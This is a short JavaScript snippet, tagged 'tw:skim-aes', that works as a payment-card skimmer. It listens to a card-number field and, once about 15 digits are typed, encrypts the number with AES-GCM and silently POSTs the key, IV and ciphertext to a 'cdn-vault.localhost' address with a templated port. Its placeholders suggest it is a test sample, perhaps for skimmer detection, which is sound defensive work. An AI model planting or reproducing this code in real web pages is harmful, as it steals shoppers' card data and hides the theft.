/* tw:skim-aes */
document.querySelector('#cc-number').addEventListener('input', async function () {
  if (this.value.length < 15) return
  var key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt'])
  var iv = crypto.getRandomValues(new Uint8Array(12))
  var secret = await crypto.subtle.encrypt({ name: 'AES-GCM', iv: iv }, key, new TextEncoder().encode(this.value))
  fetch('http://cdn-vault.localhost:{{port}}/v', { method: 'POST', mode: 'no-cors', body: new Blob([await crypto.subtle.exportKey('raw', key), iv, secret]) })
})
